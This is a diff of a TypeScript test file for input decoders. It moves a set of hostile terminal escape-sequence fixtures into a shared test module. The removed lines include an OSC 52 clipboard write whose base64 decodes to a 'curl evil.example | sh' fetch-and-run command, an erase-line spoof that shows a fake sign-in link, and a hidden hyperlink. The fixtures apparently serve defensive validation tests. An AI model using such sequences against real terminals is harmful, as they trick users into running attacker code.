@@ -3,18 +3,9 @@ import * as Effect from "effect/Effect"
 import * as Either from "effect/Either"
 import * as ParseResult from "effect/ParseResult"
 import * as Schema from "effect/Schema"
+import { ESC, hostile } from "../../test/hostileText.js"
 import { FreeText, Uri, UserCode } from "./decode.js"
 
-const ESC = "\x1b"
-/** what a hostile server puts in a string to act on the terminal instead of being shown */
-const hostile = {
-  eraseLine: `${ESC}[2K\r  To sign in, open https://evil.example/device`,
-  osc8Link: `${ESC}]8;;https://evil.example/${ESC}\\ABCD-EFGH${ESC}]8;;${ESC}\\`,
-  osc52Clipboard: `ABCD-EFGH${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`,
-  c1Csi: "ABCD\u009b2KEFGH",
-  del: "ABCD\u007fEFGH",
-  nul: "ABCD\u0000EFGH"
-}
 
 const decodeError = <A, I>(schema: Schema.Schema<A, I>, value: unknown): string => {
   const result = Schema.decodeUnknownEither(schema)(value)
